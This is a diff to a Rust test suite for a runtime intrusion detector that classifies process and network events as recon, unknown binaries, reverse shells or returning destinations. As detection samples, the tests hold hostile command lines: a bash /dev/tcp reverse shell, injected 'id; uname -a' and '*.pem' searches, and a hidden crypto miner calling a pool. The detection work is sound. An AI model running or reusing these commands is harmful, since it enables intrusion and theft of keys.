@@ -11,7 +11,7 @@ fn feed(t: &mut Tracker, f: &Familiar, obs: &Observation) -> Vec<Indicator> {
 fn a_shell_fires_once_per_invocation() {
     let (mut t, f) = (Tracker::default(), Familiar::default());
     assert_eq!(
-        feed(&mut t, &f, &process(10, "/usr/bin/dash", "sh -c id")),
+        feed(&mut t, &f, &process(10, "/usr/bin/dash", "sh -c date")),
         vec![Indicator::ShellSpawned]
     );
     assert!(feed(&mut t, &f, &process(11, "/usr/bin/bash", "bash -i")).is_empty());
@@ -31,7 +31,7 @@ fn familiar_programs_do_not_fire() {
     assert!(feed(&mut t, &f, &process(11, "/bin/sh", "sh -c gzip")).is_empty());
     assert!(feed(&mut t, &f, &endpoint("10.0.0.2:443")).is_empty());
     assert_eq!(
-        feed(&mut t, &f, &process(12, "/usr/bin/id", "id")),
+        feed(&mut t, &f, &process(12, "/usr/bin/od", "od")),
         vec![Indicator::UnknownBinary]
     );
 }
@@ -139,7 +139,12 @@ fn evidence_is_redacted() {
 fn weights_and_features() {
     assert!(Indicator::UnknownBinary.weight(true) > Indicator::UnknownBinary.weight(false));
     assert!(Indicator::UnknownDestination.weight(true) < 0.5);
-    assert_eq!(Indicator::ShellWithConnection.class(), Class::ReverseShell);
+    assert_eq!(
+        Indicator::ShellWithConnection.class(),
+        Class::CommandInjection
+    );
+    assert_eq!(Indicator::ShellOverSocket.class(), Class::ReverseShell);
+    assert!(Indicator::ShellOverSocket.is_hard() && !Indicator::ShellWithConnection.is_hard());
     assert_eq!(Indicator::LeftRunning.feature(), idx::LEFT_RUNNING);
 }
 
@@ -153,7 +158,7 @@ fn a_runtime_forking_itself_is_not_an_unknown_binary() {
         "python -m awslambdaric handler.handler",
     );
     assert!(feed(&mut t, &f, &fork).is_empty());
-    let mut exec = process(13, "/usr/bin/id", "id");
+    let mut exec = process(13, "/usr/bin/od", "od");
     if let Observation::Process { exec: e, .. } = &mut exec {
         *e = true;
     }
@@ -259,7 +264,7 @@ fn a_process_gone_before_it_could_be_named_is_not_judged() {
     assert!(feed(&mut t, &f, &process(10, "", "")).is_empty());
     // Its command line names it when only the executable link was unreadable.
     assert_eq!(
-        feed(&mut t, &f, &process(11, "", "/usr/bin/id -u")),
+        feed(&mut t, &f, &process(11, "", "/usr/bin/od -x")),
         vec![Indicator::UnknownBinary]
     );
     let mut f = Familiar::default();
@@ -292,7 +297,7 @@ fn a_program_seen_only_by_the_file_watch_is_judged_like_a_process() {
     let mut t = Tracker::default();
     assert!(feed(&mut t, &f, &program("/usr/bin/gzip")).is_empty());
     assert_eq!(
-        feed(&mut t, &f, &program("/usr/bin/id")),
+        feed(&mut t, &f, &program("/usr/bin/od")),
         vec![Indicator::UnknownBinary]
     );
     assert_eq!(
@@ -344,7 +349,7 @@ fn a_command_repeated_in_a_new_environment_becomes_a_habit_after_three_invocatio
         let mut t = Tracker::default();
         let fired = own.iter().flat_map(|o| feed(&mut t, &f, o)).count();
         assert!(fired > 0, "invocation {n} is still reported");
-        f.note_repeated(&own);
+        f.note_invocation(&own, &[]);
     }
     let mut t = Tracker::default();
     for o in &own {
@@ -356,9 +361,103 @@ fn a_command_repeated_in_a_new_environment_becomes_a_habit_after_three_invocatio
         "/usr/bin/dash",
         "sh -c gzip -6 -c /tmp/in/a1.bin; id | wc -c",
     );
-    assert_eq!(feed(&mut t, &f, &injected), vec![Indicator::ShellSpawned]);
+    assert_eq!(
+        feed(&mut t, &f, &injected),
+        vec![Indicator::ReconCommand, Indicator::ShellSpawned]
+    );
     assert_eq!(
         feed(&mut t, &f, &program("/usr/bin/id")),
         vec![Indicator::UnknownBinary]
     );
+}
+
+#[test]
+fn reconnaissance_is_named_where_a_command_starts() {
+    let recon = |exe: &str, cmd: &str| is_recon(exe, cmd);
+    assert!(recon("/usr/bin/id", "id -u"));
+    assert!(recon(
+        "/bin/sh",
+        "sh -c gzip -6 -c /dev/null >/dev/null; id; uname -a #"
+    ));
+    assert!(recon("/bin/sh", "sh -c gzip -6 $(whoami >&2)"));
+    assert!(recon("/bin/sh", "sh -c x && ls -la /var/task && ps -ef"));
+    assert!(recon("/bin/sh", "sh -c find / -maxdepth 3 -name '*.pem'"));
+    assert!(recon("/bin/bash", "bash -c env"));
+    // Words in arguments, and `env` running a program, are not recon.
+    assert!(!recon("/bin/sh", "sh -c gzip --id=3 uid"));
+    assert!(!recon("/bin/sh", "sh -c env LANG=C sort"));
+    assert!(!recon(
+        "/bin/sh",
+        "sh -c curl -sS http://h/doc | ./bin/converter -"
+    ));
+    assert!(!recon(
+        "/usr/bin/env",
+        "/usr/bin/env python3 ./bin/converter"
+    ));
+    assert!(!recon("/usr/bin/uname", "uname -m"));
+}
+
+#[test]
+fn a_shell_wired_to_a_socket_is_a_reverse_shell() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let mut shell = process(10, "/bin/sh", "/bin/sh -i");
+    if let Observation::Process { stdio_socket, .. } = &mut shell {
+        *stdio_socket = true;
+    }
+    assert!(feed(&mut t, &f, &shell).contains(&Indicator::ShellOverSocket));
+    let mut t = Tracker::default();
+    let devtcp = process(
+        11,
+        "/bin/bash",
+        "bash -c bash -i >& /dev/tcp/10.0.0.9/4444 0>&1",
+    );
+    assert!(feed(&mut t, &f, &devtcp).contains(&Indicator::ShellOverSocket));
+    // A piped shell is not.
+    let mut t = Tracker::default();
+    let piped = process(12, "/bin/sh", "sh -c curl -sS http://h/a | wc -c");
+    assert!(!feed(&mut t, &f, &piped).contains(&Indicator::ShellOverSocket));
+}
+
+#[test]
+fn a_habit_needs_repeats_in_half_the_invocations_since_it_appeared() {
+    let own = [process(10, "/usr/bin/jq", "jq -c .items")];
+    let other = [process(11, "/usr/bin/gzip", "gzip -6")];
+    // Every invocation: familiar after three.
+    let mut f = Familiar::default();
+    for _ in 0..HABIT_REPEATS {
+        assert!(!f.knows(&Habit::Program("/usr/bin/jq".into())));
+        f.note_invocation(&own, &[]);
+    }
+    assert!(f.knows(&Habit::Program("/usr/bin/jq".into())));
+    // One invocation in four: three sightings are not enough.
+    let mut f = Familiar::default();
+    for n in 0..12 {
+        let evidence: &[Observation] = if n % 4 == 0 { &own } else { &other };
+        f.note_invocation(evidence, &[]);
+    }
+    assert!(!f.knows(&Habit::Program("/usr/bin/jq".into())));
+    assert!(f.knows(&Habit::Program("/usr/bin/gzip".into())));
+}
+
+#[test]
+fn what_a_hard_indicator_brought_is_never_learned_and_its_destination_returns() {
+    let attack = [
+        process(10, "/tmp/.x/miner", "/tmp/.x/miner -o pool"),
+        endpoint("10.9.9.9:3333"),
+    ];
+    let mut f = Familiar::default();
+    for _ in 0..20 {
+        f.note_invocation(&attack, &attack[..1]);
+    }
+    assert!(!f.knows(&Habit::Program("/tmp/.x/miner".into())));
+    // Even an invocation that raised nothing does not teach it.
+    f.learn(&attack);
+    let mut t = Tracker::default();
+    let fired = feed(&mut t, &f, &endpoint("10.9.9.9:3333"));
+    assert!(
+        fired.contains(&Indicator::ReturningDestination),
+        "{fired:?}"
+    );
+    assert!(fired.contains(&Indicator::UnknownDestination), "{fired:?}");
 }
